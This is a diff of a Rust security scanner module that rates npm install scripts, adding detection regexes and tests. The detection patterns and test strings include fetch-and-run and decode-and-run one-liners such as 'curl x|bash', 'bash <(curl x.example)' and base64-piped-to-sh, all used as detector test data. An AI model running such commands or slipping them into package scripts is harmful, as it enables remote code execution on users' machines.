@@ -2,9 +2,10 @@
 //!
 //! <https://docs.npmjs.com/cli/v11/using-npm/scripts#life-cycle-scripts>
 
+use std::borrow::Cow;
 use std::sync::LazyLock;
 
-use regex::bytes::Regex;
+use regex::bytes::{Captures, Regex};
 use serde::Deserialize;
 
 use crate::finding::{Certainty, EntryPath, Location, Severity};
@@ -41,11 +42,9 @@ static ORDINARY: LazyLock<Option<Regex>> = LazyLock::new(|| {
         r"exit 0",
         r"true",
         r"echo( [^|&;`$<>\n]*)?",
+        r#"echo "[^"`$\\\n]*""#,
         r"(npm|yarn|pnpm) (run )?[\w:-]+{options}",
         r"node( --harmony| --no-warnings)* [\w./][\w./-]*",
-        // To thank, and to run a file that may be missing.
-        r#"node -e "console\.log\('[^'`]*'\)""#,
-        r#"node -e "try\{require\('\./[\w./-]+'\)\}catch\(e\)\{\}""#,
     ];
     let command = commands
         .join("|")
@@ -56,21 +55,63 @@ static ORDINARY: LazyLock<Option<Regex>> = LazyLock::new(|| {
     .ok()
 });
 
-/// What no honest package needs: to fetch and run in one go, to run text, or to hide what runs.
-static SUSPICIOUS: LazyLock<Option<Regex>> = LazyLock::new(|| {
-    let marks = [
-        r"https?://",
-        r"\b(curl|wget|fetch|nc|ncat|certutil|bitsadmin|mshta|Invoke-\w+|iwr|iex)\b",
-        r"\b(node|bun|deno|python3?|perl|ruby|php)\s+(-\S+\s+)*(-e|-p|-pe|-c|--eval|--print|eval)\b",
-        r"\bpowershell|\bpwsh\b|\bcmd(\.exe)?\s+/c",
-        r"\bbase64\b|\batob\b|\beval\b|\bxxd\b",
-        r"\|\s*(ba|z|da|k)?sh\b|\b(ba|z|da|k)?sh\s+-c\b",
-        r"/dev/tcp/|/tmp/|~/\.|\$HOME\b",
-        r"\bchmod\s+(\+x|[0-7]*[1357])",
-        r"(\\x[0-9a-f]{2}){4}|(\\u[0-9a-f]{4}){4}",
-    ];
-    Regex::new(&format!("(?i-u){}", marks.join("|"))).ok()
+/// Where a command starts, within quotes too, and what may stand in front of its name.
+const START: &str =
+    r#"(?:^|[;&|(`"'\n])\s*(?:(?:sudo|env|exec|busybox|nohup|time|then|do|!|\w+=\S*)\s+)*"#;
+/// Commands that fetch.
+const FETCH: &str = r"(?:\S*/)?(?:curl|wget|fetch|nc|ncat|certutil|bitsadmin|mshta|invoke-webrequest|invoke-restmethod|iwr|irm)(?:\.exe)?(?:[\s$<>;&|)]|$)";
+/// What runs a file or a text, of a command's name on.
+const RUN: &str = r#"(?:(?:\S*/)?(?:(?:ba|z|da|k)?sh|node|bun|deno|python[\d.]*|perl|ruby|php|powershell|pwsh|cmd)(?:\.exe)?(?:[\s;&|)"'`]|$)|(?:eval|source|\.|iex|invoke-expression)\s|[\w.~$-]*/\S|chmod\s+(?:\S*\+x|[0-7]*[1357]))"#;
+/// Interpreters, and the option by which they run a text.
+const TEXT: &str = r"(?:\S*/)?(?:node|bun|deno|python[\d.]*|perl|ruby|php)(?:\.exe)?\s+(?:-\S+\s+)*(?:-e|-p|-pe|-c|--eval|--print|eval)[\s=]";
+/// What decodes, in a shell and in what interpreters run.
+const DECODE: &str = r#"\bbase64\s+(?:-d|--decode)|\bxxd\s+-\w*r|\bopenssl\b.*\s-d\b|['"]base64\b|\batob\b|\bb64decode\b|\bdecode_base64\b|\bfromcharcode\b|(?:\\x[0-9a-f]{2}){4}|(?:\\u[0-9a-f]{4}){4}"#;
+/// What speaks to other machines, in what interpreters run.
+const NETWORK: &str = r#"['"](?:node:)?(?:https?|http2|net|tls|dns|dgram)\\?['"]|\bfetch\s*\(|\bhttps?\.(?:get|request)\b|\burllib|\brequests\.\w|\bsocket\b|\baxios\b|\blwp::|\bopen-uri\b"#;
+/// What else may do anything there.
+const ANYTHING: &str = r#"child_process|\beval\b|\bfunction\s*\(\s*['"]|process\.(?:binding|dlopen)|\brequire\s*\((?:[^)]*\+|\s*[^'"\\\s])|\bimport\s*\(\s*[^'"\\\s]|\bglobal(?:this)?\s*\[|\bconstructor\b|\b_load\b|\bexec\b|\bsystem\b|\bsubprocess\b|`|\$\("#;
+
+fn rule(parts: &[String]) -> Option<Regex> {
+    Regex::new(&format!("(?i-u){}", parts.join("|"))).ok()
+}
+
+/// What no honest package needs: to run what was just fetched or decoded.
+static FETCHES_AND_RUNS: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    // The text of a command stands in quotes; a file that is run does not.
+    let run = format!(r"[;&|(`\n]\s*(?:(?:sudo|env|exec|nohup)\s+)*{RUN}");
+    let within = r#"[$<]\(\s*|`\s*|\(\s*"#;
+    rule(&[
+        format!(r"{START}{FETCH}(?s:.*){run}"),
+        format!(r"(?:{DECODE})(?s:.*){run}"),
+        format!(r"{START}{RUN}(?s:.*)(?:(?:{within}){FETCH}|(?:{within})[^)]*(?:{DECODE}))"),
+        format!(r"{START}{TEXT}(?s:.*)(?:{NETWORK}|{DECODE})"),
+        format!(r"{START}(?:powershell|pwsh)(?:\.exe)?\s(?s:.*)-e(?:nc\w*|c)?\s"),
+        r"/dev/tcp/".to_owned(),
+    ])
 });
+
+/// What may be bad, and is not known to be.
+static DOUBTFUL: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    rule(&[
+        format!(r"{START}{FETCH}"),
+        DECODE.to_owned(),
+        format!(r"{START}{TEXT}(?s:.*)(?:{ANYTHING})"),
+        format!(r"{START}(?:eval|iex|invoke-expression|powershell|pwsh)(?:\.exe)?\s"),
+        r"https?://".to_owned(),
+    ])
+});
+
+/// A text in quotes that Node.js runs.
+static NODE_TEXT: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(
+        r#"(?-u)\bnode(?: -\S+)*? (?:-e|-p|-pe|--eval|--print)[ =](?:"(?:[^"\\]|\\.)*"|'[^']*')"#,
+    )
+    .ok()
+});
+
+/// What makes such a text one that is not harmless by itself.
+static CALLS: LazyLock<Option<Regex>> =
+    LazyLock::new(|| rule(&[NETWORK, DECODE, ANYTHING].map(str::to_owned)));
 
 /// What the manifest at `path` has run; `is_own` where it is the project's own.
 pub fn install_scripts(path: &EntryPath, scripts: Lenient<Scripts>, is_own: bool) -> Vec<Sighting> {
@@ -98,16 +139,32 @@ pub fn install_scripts(path: &EntryPath, scripts: Lenient<Scripts>, is_own: bool
 }
 
 fn judge(script: &str, is_own: bool) -> (Severity, Certainty) {
-    let is = |rule: &Option<Regex>| {
-        rule.as_ref()
-            .is_some_and(|rule| rule.is_match(script.as_bytes()))
-    };
-    match () {
+    let script = without_harmless_texts(script.as_bytes());
+    let is = |rule: &Option<Regex>| rule.as_ref().is_some_and(|rule| rule.is_match(&script));
+    let (severity, certainty) = match () {
         () if is(&ORDINARY) => (Severity::Info, Certainty::Certain),
-        () if is(&SUSPICIOUS) => (Severity::High, Certainty::Certain),
+        () if is(&FETCHES_AND_RUNS) => (Severity::High, Certainty::Certain),
+        () if is(&DOUBTFUL) => (Severity::Medium, Certainty::Possible),
         () if is_own => (Severity::Info, Certainty::Certain),
         () => (Severity::Low, Certainty::Possible),
+    };
+    match is_own {
+        // Whoever installs it wrote it.
+        true => (severity.min(Severity::Low), certainty),
+        false => (severity, certainty),
     }
+}
+
+/// The script with a command that does nothing in place of texts for Node.js that call nothing of note: they thank, look
+/// which package manager runs, or run a file that may be missing.
+fn without_harmless_texts(script: &[u8]) -> Cow<'_, [u8]> {
+    let (Some(texts), Some(calls)) = (&*NODE_TEXT, &*CALLS) else {
+        return Cow::Borrowed(script);
+    };
+    texts.replace_all(script, |text: &Captures| match calls.is_match(&text[0]) {
+        true => text[0].to_vec(),
+        false => b"true".to_vec(),
+    })
 }
 
 #[cfg(test)]
@@ -129,6 +186,8 @@ mod tests {
             ("is-ci || husky", Severity::Info),
             ("patch-package && npm run build", Severity::Info),
             ("echo \"thank you\"", Severity::Info),
+            ("echo \"https://a.example/x & more\"", Severity::Info),
+            ("echo \"$(curl x.example)\" | sh", Severity::High),
             ("node --harmony ./postinstall.js", Severity::Info),
             (
                 "node -e \"console.log('\\u001b[35mthanks\\u001b[0m (https://a.example)')\"",
@@ -140,22 +199,64 @@ mod tests {
             ),
             ("husky -x;curl${IFS}a|sh", Severity::High),
             ("node -e \"console.log('a');fetch('b')\"", Severity::High),
+            (
+                "node -e \"try { require('./x') } catch (e) {}\"",
+                Severity::Info,
+            ),
+            ("node -e \"require('./postinstall')\"", Severity::Info),
+            ("node -e 'process.exit(0)'", Severity::Info),
+            (
+                "node -e \"if(!/yarn/.test(process.env.npm_execpath))process.exit(1)\"",
+                Severity::Info,
+            ),
+            ("node -e \"1\" && node-gyp rebuild", Severity::Info),
             ("./configure", Severity::Low),
             ("node install.js extra", Severity::Low),
             ("node install.js & sh x", Severity::Low),
-            ("curl -o x https://x.example/x", Severity::High),
-            ("CURL x", Severity::High),
-            ("node -e \"1\"", Severity::High),
-            ("node --eval 1", Severity::High),
-            ("python3 -c 'import os'", Severity::High),
+            ("node fetch-binaries.js --all", Severity::Low),
+            ("node ./scripts/nc.js x", Severity::Low),
+            ("npm run fetch && node x y", Severity::Low),
+            ("node dist/eval.js now", Severity::Low),
+            ("node build.js --python -c x", Severity::Low),
+            ("test -d dist || sh -c 'npm run build'", Severity::Low),
+            ("rimraf /tmp/x", Severity::Low),
+            ("chmod +x bin/tool", Severity::Low),
+            ("chmod +x bin/a && bin/a", Severity::Low),
+            ("mkdir -p /tmp/cache", Severity::Low),
+            ("cat x | sh", Severity::Low),
+            ("python3 -c 'import os'", Severity::Low),
+            ("curl -o x https://x.example/x", Severity::Medium),
+            ("CURL x", Severity::Medium),
+            ("echo x | base64 -d", Severity::Medium),
+            ("node -e \"eval(process.env.X)\"", Severity::Medium),
+            (
+                "node -e \"require('child_process').exec('x')\"",
+                Severity::Medium,
+            ),
+            (
+                "curl -o x https://x.example/x && chmod +x x && ./x",
+                Severity::High,
+            ),
+            ("CURL x|bash", Severity::High),
+            ("sh -c \"$(wget -qO- x.example)\"", Severity::High),
+            ("bash <(curl x.example)", Severity::High),
+            ("echo aWQ= | base64 -d | sh", Severity::High),
+            ("node -e \"require('https').get('x')\"", Severity::High),
+            (
+                "node -e \"eval(Buffer.from('x', 'base64') + '')\"",
+                Severity::High,
+            ),
+            ("node --eval \"eval(atob('x'))\"", Severity::High),
+            (
+                "node -e \"require('child_process').exec('curl x | sh')\"",
+                Severity::High,
+            ),
+            ("python3 -c 'import urllib.request'", Severity::High),
             ("powershell.exe -enc AAAA", Severity::High),
-            ("cat x | sh", Severity::High),
-            ("echo x | base64 -d", Severity::High),
-            ("chmod +x bin/a && bin/a", Severity::High),
         ] {
             assert_eq!(judge(script, false).0, expected, "{script}");
         }
         assert_eq!(judge("make tables", true).0, Severity::Info);
-        assert_eq!(judge("curl x | sh", true).0, Severity::High);
+        assert_eq!(judge("curl x | sh", true).0, Severity::Low);
     }
 }
